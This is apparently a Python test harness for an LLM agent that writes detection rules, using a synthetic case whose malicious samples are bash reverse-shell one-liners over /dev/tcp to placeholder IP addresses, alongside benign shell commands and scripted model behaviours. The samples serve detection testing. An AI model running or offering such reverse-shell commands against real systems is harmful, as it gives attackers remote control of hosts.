"""The model that picks the tools of the agent for events, as `ruleforge agent --llm` asks it.

It can only pick among ids; where it gives up or finishes too early, the tools refuse and the embedded policy goes on.
"""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from ruleforge.app.event_agent import AgentSummary, run_cases
from ruleforge.cli.agent import _data, _lines
from ruleforge.llm.door import Door
from ruleforge.llm.provider import Call, Ground
from ruleforge.llm.scripted import Scripted
from ruleforge.rules.parse import load_rule

PLACES = {
    "finding_title": "A shell over a network device",
    "advisory_prose": "The shell reads from and writes to a connection that it opens itself.",
    "log_line": "pears",
    "file_name": "pears.sh",
    "user_agent": "pears",
    "poc_comment": "# pears",
}
TEXT_IS_EVIDENCE = True
NOTHING: dict[str, Any] = {"strategy": "", "facets": [], "candidate": "", "question": "", "reason": ""}


def honest(call: Call) -> dict[str, Any]:
    """Propose, test, and finish with what passed."""
    names = call.schema["properties"]
    said = next(part.text for part in call.prompt.parts if part.name == "candidates")
    lines = [line for line in said.split("\n") if line.partition(" ")[0] in names["candidate"]["enum"]]
    passed = [line.partition(" ")[0] for line in lines if ", passed)" in line.partition(":")[0]]
    untested = [line.partition(" ")[0] for line in lines if ", not tested)" in line.partition(":")[0]]
    if passed:
        return NOTHING | {"tool": "finish", "candidate": passed[0]}
    if untested:
        return NOTHING | {"tool": "test", "candidate": untested[0]}
    strategies = [name for name in names["strategy"]["enum"] if name]
    return NOTHING | ({"tool": "propose", "strategy": strategies[0]} if strategies else {"tool": "give_up"})


def comply(call: Call) -> dict[str, Any]:
    """Finish with anything at once, or else give up."""
    candidates = [name for name in call.schema["properties"]["candidate"]["enum"] if name]
    if candidates:
        return NOTHING | {"tool": "finish", "candidate": candidates[-1]}
    return NOTHING | {"tool": "give_up", "reason": "no_candidate"}


def cannot_tell(_call: Call) -> dict[str, Any]:
    return NOTHING | {"tool": "give_up", "reason": "indistinguishable"}


def run(place: str, text: str, says: Callable[[Call], str], folder: Path) -> dict[str, Any]:
    """Work on a case with `text` at `place`, by a model that answers as `says`."""
    case, out = folder / "case.yaml", folder / "out"
    case.write_text(json.dumps(document(PLACES | {place: text}), ensure_ascii=False), "utf-8")
    provider, summary = Scripted(says), AgentSummary()
    door = Door(provider, ground=Ground(bytes(32)), sleep=lambda _seconds: None)
    outcomes = list(run_cases([case], out, summary, door=door, clock=lambda: 0.0))
    files = sorted(out.rglob("rule.json"))
    states = [json.loads((file.parent / "evidence.json").read_text("utf-8")).get("status") for file in files]
    for file in files:
        load_rule(file).require()
    return {
        "verdict": [(each.outcome, each.reason) for each in outcomes] + states,
        "actions": sorted(str(file.relative_to(out)) for file in out.rglob("*") if file.is_file()),
        "calls": provider.asked,
        "sinks": {
            "terminal": "\n".join(_lines(outcomes, summary)),
            "json": json.dumps([_data(each) for each in outcomes], ensure_ascii=True),
        },
    }


def document(said: dict[str, str]) -> dict[str, Any]:
    def event(line: str, parent: str, user: str, more: str = "") -> dict[str, Any]:
        fields = {"process.executable": "/bin/bash", "process.name": "bash", "process.command_line": line + more}
        return {"fields": fields | {"parent.name": parent, "user": user, "outcome": "success"}}

    hidden = f" {said['log_line']} {said['file_name']} {said['user_agent']} {said['poc_comment']}"
    return {
        "case": 1,
        "id": "EV-PEAR-SHELL",
        "title": said["finding_title"],
        "event": "process",
        "description": said["advisory_prose"],
        "severity": "high",
        "malicious": [
            event('bash -c "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"', "php-fpm", "www-data", hidden),
            event('bash -c "exec 5<>/dev/tcp/198.51.100.23/9001; cat <&5 | sh >&5"', "java", "app"),
            event("sh -c 'exec bash -i 0<> /dev/tcp/203.0.113.99/53 1>&0 2>&0'", "python3", "web"),
        ],
        "benign": [
            event('bash -c "cd /srv/app && ./start"', "systemd", "app"),
            event("sh -c 'exec 3< list.txt; cat <&3'", "cron", "app"),
            event("bash -i", "sshd", "ada"),
            event("bash /srv/tools/nightly.sh", "java", "app"),
        ],
    }
